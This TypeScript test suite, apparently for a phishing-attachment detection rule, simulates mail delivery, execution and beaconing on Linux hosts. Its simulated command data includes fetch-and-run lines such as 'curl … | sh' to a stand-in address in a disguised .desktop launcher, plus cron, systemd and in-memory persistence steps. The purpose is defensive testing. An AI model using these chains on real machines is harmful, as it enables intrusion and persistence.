import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { DAY, HOUR, HostLog, MINUTE } from './host-log.test-support.ts';
import {
  factorsOf,
  firesAt,
  inOrder,
  linksHold,
  recording,
  scanFolder,
  scanLog,
  storyOf,
  strengthsOf,
  valuesOf,
} from './stories.test-support.ts';

const OUT = '203.0.113.66';

/** A message for the clerk, whose mail client reads it and saves what is attached; then a shell of the clerk. */
function saved(path: string): { log: HostLog; shell: Process; queueId: string } {
  const log = new HostLog();
  const message = log.deliver();
  log.wait(MINUTE);
  const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird');
  client.read(message.path).write(`${path}.part`).rename(`${path}.part`, path);
  log.wait(MINUTE);
  return { log, shell: log.shell('clerk'), queueId: message.queueId };
}

test('recorded: a program saved by Thunderbird, made executable, run in a terminal, is told from delivery to beacon', async () => {
  const truth = recording('an0656-phishing-attachment-executed/fires.thunderbird-elf-terminal');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0656', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['mail.received', truth.carrier()],
    ['mail.delivered', truth.carrier()],
    ['file.created', truth.path('save'), truth.pid('save')],
    ['file.made-executable', truth.pid('chmod'), truth.path('chmod')],
    ['content.executed', truth.path('execute'), 'is run as a program', truth.pid('execute')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
  assert.deepEqual(
    alert.links.filter(link => link.strength !== 'observed').map(link => [link.kind, link.strength]),
    [['delivery', 'inferred']],
    'what came over IMAP is known to the server by the message, not by the file',
  );
  assert.deepEqual(valuesOf(alert, 'user'), [truth.user]);
  assert.deepEqual(valuesOf(alert, 'host'), [truth.host]);
  assert.deepEqual(valuesOf(alert, 'file'), [truth.path('save')]);
  assert.deepEqual(valuesOf(alert, 'address'), [truth.path('beacon')]);
  assert.equal(valuesOf(alert, 'message')[0], truth.carrier());
  assert.deepEqual(alert.missing, []);
});

test('recorded: out of a zip file, a launcher script and then a hidden child', async () => {
  const truth = recording('an0656-phishing-attachment-executed/fires.zip-hidden-child');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0656', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['mail.delivered', truth.carrier()],
    ['file.created', truth.path('save')],
    ['file.opened', truth.pid('unpack'), truth.path('save')],
    ['file.written', truth.pid('unpack')],
    ['content.executed', truth.path('execute'), truth.pid('execute')],
    ['content.executed', '.lib/index', truth.pid('hidden')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
  assert.deepEqual(strengthsOf(alert, 'content'), ['observed']);
  assert.deepEqual(strengthsOf(alert, 'delivery'), ['inferred']);
});

test('recorded: saved out of a Maildir that the client itself reads, every link is observed', async () => {
  const truth = recording('an0656-phishing-attachment-executed/fires.evolution-maildir-script');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0656', 'high');
  linksHold(alert);
  assert.deepEqual(
    alert.links.filter(link => link.strength !== 'observed'),
    [],
  );
  assert.deepEqual(strengthsOf(alert, 'delivery'), ['observed']);
  assert.equal(valuesOf(alert, 'message')[0], truth.carrier());
});

test('recorded: a crontab entry left behind joins what cron runs later', async () => {
  const truth = recording('an0656-phishing-attachment-executed/fires.client-opens-crontab');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0656', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['mail.delivered', truth.carrier()],
    ['file.created', truth.path('open'), truth.pid('open')],
    ['content.executed', truth.path('open'), truth.pid('execute')],
    ['persistence.written', truth.pid('job'), '/var/spool/cron/crontabs/'],
    ['content.executed', truth.path('drop')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
  assert.ok(factorsOf(alert).includes('left something that runs later'));
  assert.deepEqual(valuesOf(alert, 'mailbox'), ['clerk']);
});

test('recorded: the loader and then memory', async () => {
  const truth = recording('an0656-phishing-attachment-executed/fires.loader-memfd');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0656', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['mail.delivered', truth.carrier()],
    ['file.created', truth.path('save')],
    ['content.executed', truth.path('save'), 'through the dynamic loader', truth.pid('execute')],
    ['content.executed', 'out of memory', truth.pid('memory')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
});

test('recorded: piped into a shell at delivery, no person involved', async () => {
  const truth = recording('an0656-phishing-attachment-executed/fires.procmail-pipe-shell');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0656', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['mail.delivered', truth.carrier()],
    ['process.started', 'hands the message on standard input'],
    ['content.executed', 'standard input'],
    ['file.written', truth.pid('fetch'), truth.path('chmod')],
    ['file.made-executable', truth.pid('chmod'), truth.path('chmod')],
    ['content.executed', truth.path('execute'), truth.pid('execute')],
    ['network.connected', truth.path('beacon')],
  ]);
  assert.deepEqual(strengthsOf(alert, 'delivery'), ['observed']);
  assert.deepEqual(valuesOf(alert, 'user'), [truth.user]);
});

test('recorded: one of several messages copied out and unpacked: the file and the message are that one', async () => {
  const truth = recording('an0656-phishing-attachment-executed/fires.munpack-python');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0656', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['mail.delivered', truth.carrier()],
    ['store.read', truth.path('copy'), truth.pid('copy'), '/home/ops/Maildir/new/'],
    ['file.written', truth.pid('copy'), '/var/tmp/case/m'],
    ['file.opened', truth.pid('unpack')],
    ['file.written', truth.pid('part'), truth.path('part')],
    ['content.executed', truth.path('part'), truth.pid('execute')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
  assert.deepEqual(strengthsOf(alert, 'content'), ['observed']);
  assert.deepEqual(strengthsOf(alert, 'delivery'), ['inferred'], 'one agent delivered two in that second');
});

for (const command of ['/usr/bin/perl', '/usr/bin/node', '/usr/bin/wine', '/usr/bin/bash', '/bin/busybox sh'])
  test(`an attachment that was never executable is run by ${command}`, async () => {
    const { log, shell, queueId } = saved('/home/clerk/Downloads/update');
    shell.run(`${command} Downloads/update`).read('Downloads/update');
    const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
    linksHold(alert);
    inOrder(alert, [
      ['mail.delivered', queueId],
      ['file.created', '/home/clerk/Downloads/update.part'],
      ['content.executed', '/home/clerk/Downloads/update', 'interpreter'],
    ]);
  });

test('java -jar, the loader, env and setsid run it all the same', async () => {
  const ways: ((shell: Process) => void)[] = [
    shell => shell.run('/usr/lib/jvm/java-17-openjdk-amd64/bin/java -jar Downloads/update').read('Downloads/update'),
    shell => shell.run('/lib64/ld-linux-x86-64.so.2 Downloads/update').read('Downloads/update'),
    shell => shell.run('/usr/bin/env -S python3 Downloads/update').exec('/usr/bin/python3 Downloads/update'),
    shell => shell.run('/usr/bin/setsid bash Downloads/update').exec('/usr/bin/bash Downloads/update'),
  ];
  for (const way of ways) {
    const { log, shell } = saved('/home/clerk/Downloads/update');
    way(shell);
    firesAt(await scanLog(log), 'AN0656', 'medium');
  }
});

test('standard input counts as running: redirected, and through a pipeline', async () => {
  const redirected = saved('/home/clerk/Downloads/update');
  redirected.shell.fork().read('Downloads/update').exec('/bin/sh');
  const piped = saved('/home/clerk/Downloads/update');
  piped.shell.pipeline('/bin/cat Downloads/update', '/bin/sh')[0]?.read('Downloads/update');
  for (const { log } of [redirected, piped]) {
    const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
    assert.ok(alert.steps.some(step => step.summary.includes('standard input')));
  }
});

test('a launcher is an execution, by gio and by the file manager', async () => {
  const path = '/home/clerk/Downloads/Invoice.pdf.desktop';
  const fetch = ['/bin/sh', '-c', `curl -s http://${OUT}/a | sh`];
  const byGio = saved(path);
  const gio = byGio.log.desktop('clerk').run(`/usr/bin/gio launch ${path}`).read(path);
  gio.run(fetch).run(`/usr/bin/curl -s http://${OUT}/a`).connect(OUT, 80);
  const byFiles = saved(path);
  const files = byFiles.log.desktop('clerk').run('/usr/bin/nautilus').read(path);
  const helper = '/usr/lib/x86_64-linux-gnu/glib-2.0/gio-launch-desktop';
  files
    .run([helper, ...fetch.slice(1)])
    .exec(fetch)
    .run(`/usr/bin/curl -s http://${OUT}/a`)
    .connect(OUT, 80);
  for (const { log, queueId } of [byGio, byFiles]) {
    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
    inOrder(alert, [
      ['mail.delivered', queueId],
      ['content.executed', path, 'launcher'],
      ['network.connected', `${OUT}:80`],
    ]);
    assert.ok(factorsOf(alert).includes('disguised name'));
  }
});

test('an attachment that goes on from memory and deletes itself stays one story', async () => {
  const { log, shell, queueId } = saved('/home/clerk/Downloads/view');
  shell.run('/bin/chmod +x Downloads/view').chmod('Downloads/view', 0o755);
  const process = shell.run('./Downloads/view').read('/home/clerk/Downloads/view');
  process.exec('/proc/self/fd/4', { exe: '/memfd:x (deleted)' });
  process.unlink('/home/clerk/Downloads/view').connect(OUT, 443);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  inOrder(alert, [
    ['mail.delivered', queueId],
    ['content.executed', '/home/clerk/Downloads/view is run as a program'],
    ['content.executed', 'memory'],
    ['network.connected', `${OUT}:443`],
  ]);
});

test('an office viewer that starts a shell, which fetches and runs a program', async () => {
  for (const pause of [20, 300]) {
    const log = new HostLog();
    const message = log.deliver();
    const path = '/tmp/mozilla_clerk0/order.odt';
    const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').read(message.path).write(path);
    const office = client.run(`/usr/lib/libreoffice/program/soffice.bin ${path}`).read(path);
    log.wait(pause * 1000);
    const shell = office.run(['/bin/sh', '-c', `curl -so /tmp/.u http://${OUT}/u; chmod +x /tmp/.u; /tmp/.u`]);
    shell.run(`/usr/bin/curl -so /tmp/.u http://${OUT}/u`).connect(OUT, 80).write('/tmp/.u');
    shell.run('/bin/chmod +x /tmp/.u').chmod('/tmp/.u', 0o755);
    shell.run('/tmp/.u').connect(OUT, 443);
    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
    linksHold(alert);
    inOrder(alert, [
      ['mail.delivered', message.queueId],
      ['content.executed', 'viewer'],
      ['network.connected', `${OUT}:80`],
      ['network.connected', `${OUT}:443`],
    ]);
  }
});

test('a message copied out of the Maildir, unpacked an hour later elsewhere, and run there', async () => {
  const log = new HostLog();
  const message = log.deliver();
  const shell = log.shell('clerk');
  shell.run(`/bin/cp ${message.path} /tmp/m.eml`).read(message.path).write('/tmp/m.eml');
  log.wait(HOUR);
  shell.run('/usr/bin/munpack -C /var/tmp/x /tmp/m.eml').read('/tmp/m.eml').write('/var/tmp/x/setup');
  shell.run('/bin/chmod +x /var/tmp/x/setup').chmod('/var/tmp/x/setup', 0o755);
  shell.run('/var/tmp/x/setup').connect(OUT, 443);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['mail.delivered', message.queueId],
    ['store.read', message.path],
    ['file.written', '/tmp/m.eml'],
    ['file.written', '/var/tmp/x/setup'],
    ['file.made-executable', '/var/tmp/x/setup'],
    ['content.executed', '/var/tmp/x/setup'],
    ['network.connected', `${OUT}:443`],
  ]);
});

for (const days of [1.5, 9])
  test(`${days} days between saving and running break no link`, async () => {
    const { log, shell, queueId } = saved('/home/clerk/Downloads/view');
    shell.run('/bin/chmod +x Downloads/view').chmod('Downloads/view', 0o755);
    log.wait(days * DAY);
    log.shell('clerk').run('./Downloads/view').connect(OUT, 443);
    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
    inOrder(alert, [
      ['mail.delivered', queueId],
      ['file.made-executable'],
      ['content.executed'],
      ['network.connected'],
    ]);
    assert.deepEqual(strengthsOf(alert, 'content'), ['observed']);
  });

test('archives by tar with its own gzip, 7z and a graphical archiver', async () => {
  const tar = saved('/home/clerk/Downloads/p.tgz');
  const unpacker = tar.shell.run('/usr/bin/tar xzf Downloads/p.tgz');
  unpacker.run('/usr/bin/gzip -d').read('/home/clerk/Downloads/p.tgz');
  unpacker.write('/home/clerk/p/run');
  const seven = saved('/home/clerk/Downloads/p.7z');
  seven.shell.run('/usr/bin/7z x Downloads/p.7z').read('Downloads/p.7z').write('/home/clerk/p/run');
  const roller = saved('/home/clerk/Downloads/p.7z');
  const window = roller.shell.run('/usr/bin/file-roller --extract Downloads/p.7z');
  window.run('/usr/bin/7z x /home/clerk/Downloads/p.7z').read('Downloads/p.7z').write('/home/clerk/p/run');
  for (const { log, shell } of [tar, seven, roller]) {
    log.wait(MINUTE);
    shell.run('./p/run', { by: '/bin/bash' });
    firesAt(await scanLog(log), 'AN0656', 'medium');
  }
});

test('an AppImage, and a copy of an attachment under a hidden name', async () => {
  const image = saved('/home/clerk/Downloads/Viewer.AppImage');
  image.shell.run('/bin/chmod +x Downloads/Viewer.AppImage').chmod('Downloads/Viewer.AppImage', 0o755);
  image.shell.run('./Downloads/Viewer.AppImage').exec('/tmp/.mount_ViewerX/AppRun').connect(OUT, 443);
  firesAt(await scanLog(image.log), 'AN0656', 'high');
  const copy = saved('/home/clerk/Downloads/view');
  copy.shell.run('/bin/cp Downloads/view /tmp/.x').read('Downloads/view').write('/tmp/.x');
  copy.shell.run('/bin/chmod +x /tmp/.x').chmod('/tmp/.x', 0o755);
  copy.shell.run('/tmp/.x').connect(OUT, 443);
  const alert = firesAt(await scanLog(copy.log), 'AN0656', 'high');
  assert.deepEqual(valuesOf(alert, 'file'), ['/tmp/.x']);
  assert.ok(factorsOf(alert).includes('disguised name'));
});

for (const [client, path] of [
  [
    '/app/lib/thunderbird/thunderbird',
    '/home/clerk/.var/app/org.mozilla.Thunderbird/cache/tmp/mozilla_clerk0/offer.sh',
  ],
  ['/snap/thunderbird/500/thunderbird', '/home/clerk/snap/thunderbird/common/Downloads/offer.sh'],
  ['/app/lib/thunderbird/thunderbird', '/run/user/1003/doc/ab12/offer.sh'],
] as const)
  test(`a sandboxed client's place is known: ${path}`, async () => {
    const log = new HostLog();
    const message = log.deliver();
    log.desktop('clerk').run(client).read(message.path).write(path);
    log.shell('clerk').run(`/bin/bash ${path}`).read(path).connect(OUT, 443);
    inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [
      ['mail.delivered', message.queueId],
      ['file.created', path],
      ['content.executed', path],
    ]);
  });

test('a user unit is left behind, and the network comes from its grandchild two hours later', async () => {
  const { log, shell } = saved('/home/clerk/Downloads/view');
  const process = shell.run('./Downloads/view', { by: '/bin/sh' }).read('/home/clerk/Downloads/view');
  process.write('/home/clerk/.local/share/sync/agent').write('/home/clerk/.config/systemd/user/sync.service');
  process.exit();
  log.wait(2 * HOUR);
  const agent = log.service('/home/clerk/.local/share/sync/agent', 'clerk');
  agent.run(`/usr/bin/curl http://${OUT}`).connect(OUT, 80);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  inOrder(alert, [
    ['content.executed', '/home/clerk/Downloads/view'],
    ['persistence.written', 'sync.service'],
    ['content.executed', '/home/clerk/.local/share/sync/agent'],
    ['network.connected', `${OUT}:80`],
  ]);
});

test('a name borrowed from a helper excuses nothing', async () => {
  const { log, shell } = saved('/home/clerk/Downloads/clamdscan');
  shell.run('/bin/chmod +x Downloads/clamdscan').chmod('Downloads/clamdscan', 0o755);
  shell.run('./Downloads/clamdscan').connect(OUT, 443);
  firesAt(await scanLog(log), 'AN0656', 'high');
});

test('a client that keeps its mail on a server: the delivery is inferred and says so', async () => {
  const log = new HostLog();
  const message = log.deliver({ unseen: true });
  const path = '/home/clerk/Downloads/view';
  const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').connect('198.51.100.7', 993);
  client.write(`${path}.part`).rename(`${path}.part`, path);
  log.shell('clerk').run('./Downloads/view').connect(OUT, 443);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  inOrder(alert, [['mail.delivered', message.queueId], ['file.created']]);
  assert.deepEqual(strengthsOf(alert, 'delivery'), ['inferred']);
});

test('a delivery and an observed chain make high; without the delivery, network or a disguise raise medium to it', async () => {
  const plain = saved('/home/clerk/Downloads/view');
  plain.shell.run('./Downloads/view');
  assert.equal(storyOf(await scanLog(plain.log), 'AN0656').severity, 'high');
  assert.equal(storyOf(await scanLog(plain.log, { mail: false }), 'AN0656').severity, 'medium');
  const network = saved('/home/clerk/Downloads/view');
  network.shell.run('./Downloads/view').connect(OUT, 443);
  assert.equal(storyOf(await scanLog(network.log, { mail: false }), 'AN0656').severity, 'high');
  const disguised = saved('/home/clerk/Downloads/view.pdf.run');
  disguised.shell.run('./Downloads/view.pdf.run');
  assert.equal(storyOf(await scanLog(disguised.log, { mail: false }), 'AN0656').severity, 'high');
});

test('without a delivery log the story stops at medium and says what is missing', async () => {
  const { log, shell } = saved('/home/clerk/Downloads/view');
  shell.run('./Downloads/view');
  const alert = storyOf(await scanLog(log, { mail: false }), 'AN0656');
  assert.equal(alert.severity, 'medium');
  assert.deepEqual(strengthsOf(alert, 'delivery'), ['unavailable']);
  assert.ok(alert.missing.some(text => text.includes('No MTA log')));
  assert.deepEqual(valuesOf(alert, 'message'), []);
  assert.deepEqual(
    alert.wouldChange.find(change => change.what.includes('a message delivered to clerk')),
    {
      weight: 3,
      what: 'a log showed a message delivered to clerk before the run',
      why: 'not seen, because no MTA log is in the evidence',
      setting: '',
    },
  );
});

test('whoever it came to need not be who ran it: a copy on a disk that no rule watches, run days later by a colleague', async () => {
  const log = new HostLog();
  const message = log.deliver();
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  const saved = '/home/clerk/label.run';
  shell.run('/usr/bin/mutt').read(message.path).write(saved);
  shell.run(`/usr/bin/cp ${saved} /media/stick/`).read(saved);
  log.wait(2 * 24 * HOUR);
  const runs = log.shell('buyer').run('/bin/bash label.run', { cwd: '/media/stick' });
  runs.run('/usr/bin/curl http://drop.example.net/').connect('203.0.113.67', 9001);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  assert.match(alert.story, /\/media\/stick\/label\.run .* as buyer \(it came to clerk\)/);
});
